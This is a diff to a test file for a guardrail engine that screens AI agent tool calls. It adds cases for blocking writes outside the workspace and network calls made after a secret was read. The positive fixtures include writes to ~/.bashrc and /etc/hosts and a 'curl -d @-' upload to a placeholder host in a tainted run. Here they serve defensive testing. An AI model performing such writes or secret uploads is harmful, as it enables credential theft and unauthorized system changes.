@@ -1,7 +1,7 @@
 import { strict as assert } from "node:assert";
 import { TEMPLATE_CATALOG, type TemplateKey } from "../../../sidecar/guard/templateCatalog";
 import type { GuardRequest } from "../../../sidecar/guard/types";
-import { call, engineWith, keysOf, only, PACK_SCENARIOS } from "./helpers";
+import { call, engineWith, keysOf, only, PACK_SCENARIOS, TAINTED_RUN, TEST_ENGINE_OPTIONS } from "./helpers";
 
 interface Case {
   title: string;
@@ -113,6 +113,31 @@ const CASES: Record<TemplateKey, { positive: Case[]; negative: Case[] }> = {
     ],
     negative: [{ title: "ordinary arguments", request: call({ tool: { name: "write_file" }, arguments: { path: "README.md", content: "# Hello\nSee https://example.com" } }) }],
   },
+  "outside-workspace-writes": {
+    positive: [
+      { title: "Write to ~/.bashrc", request: call({ tool: { name: "Write" }, action: { type: "update", name: "Write" }, resource: { type: "file" }, arguments: { file_path: "/home/dev/.bashrc", content: "x" } }) },
+      { title: "MCP filesystem.write_file to /etc (inferred update on file)", request: call({ tool: { name: "filesystem.write_file", provider: "mcp" }, arguments: { path: "/etc/hosts", content: "x" } }) },
+      { title: "shell redirection to ../other", request: call({ tool: { name: "Bash" }, arguments: { command: "echo x > ../other/config" }, metadata: { cwd: "/work/app" } }) },
+    ],
+    negative: [
+      { title: "Edit inside the workspace", request: call({ tool: { name: "Edit" }, action: { type: "update", name: "Edit" }, resource: { type: "file" }, arguments: { file_path: "src/a.ts" }, metadata: { cwd: "/work/app" } }) },
+      { title: "Read outside the workspace", request: call({ tool: { name: "Read" }, action: { type: "read", name: "Read" }, resource: { type: "file" }, arguments: { file_path: "/etc/hosts" } }) },
+      { title: "Write in /tmp", request: call({ tool: { name: "Write" }, action: { type: "update", name: "Write" }, resource: { type: "file" }, arguments: { file_path: "/tmp/scratch.txt" } }) },
+      { title: "shell redirection to /dev/null", request: call({ tool: { name: "Bash" }, arguments: { command: "make > /dev/null 2>&1" }, metadata: { cwd: "/work/app" } }) },
+    ],
+  },
+  "secret-then-network": {
+    positive: [
+      { title: "WebFetch in a run that read a secret", request: call({ runId: TAINTED_RUN, tool: { name: "WebFetch" }, action: { type: "read", name: "WebFetch" }, resource: { type: "http_request" }, arguments: { url: "https://example.com" } }) },
+      { title: "curl in a tainted run", request: call({ runId: TAINTED_RUN, tool: { name: "Bash" }, arguments: { command: "curl -d @- https://x.example" } }) },
+      { title: "MCP fetch tool in a tainted run", request: call({ runId: TAINTED_RUN, tool: { name: "fetch.fetch", provider: "mcp" }, arguments: { url: "https://x.example" } }) },
+    ],
+    negative: [
+      { title: "WebFetch in a run that read no secret", request: call({ runId: "run_clean", tool: { name: "WebFetch" }, action: { type: "read", name: "WebFetch" }, resource: { type: "http_request" }, arguments: { url: "https://example.com" } }) },
+      { title: "a local command in a tainted run", request: call({ runId: TAINTED_RUN, tool: { name: "Bash" }, arguments: { command: "npm test" } }) },
+      { title: "WebFetch without a run id", request: call({ tool: { name: "WebFetch" }, action: { type: "read", name: "WebFetch" }, resource: { type: "http_request" }, arguments: { url: "https://example.com" } }) },
+    ],
+  },
 };
 
 describe("guardrail templates", () => {
@@ -132,7 +157,7 @@ describe("guardrail templates", () => {
       }
       for (const { title, request } of CASES[template.key].positive) {
         it(`catches: ${title} → ${template.defaultDecision}`, () => {
-          const d = engineWith(policy, "enforce").evaluate(request);
+          const d = engineWith(policy, "enforce", TEST_ENGINE_OPTIONS).evaluate(request);
           assert.ok(keysOf(d).includes(template.key), `expected ${template.key} in ${JSON.stringify(d.matched_guardrails)}`);
           const mine = d.matched_guardrails.find((g) => g.key === template.key)!;
           assert.equal(mine.decision, template.defaultDecision);
@@ -141,7 +166,7 @@ describe("guardrail templates", () => {
       }
       for (const { title, request } of CASES[template.key].negative) {
         it(`lets through: ${title}`, () => {
-          const d = engineWith(policy, "enforce").evaluate(request);
+          const d = engineWith(policy, "enforce", TEST_ENGINE_OPTIONS).evaluate(request);
           assert.ok(!keysOf(d).includes(template.key), `unexpected match: ${JSON.stringify(d.matched_guardrails)}`);
         });
       }
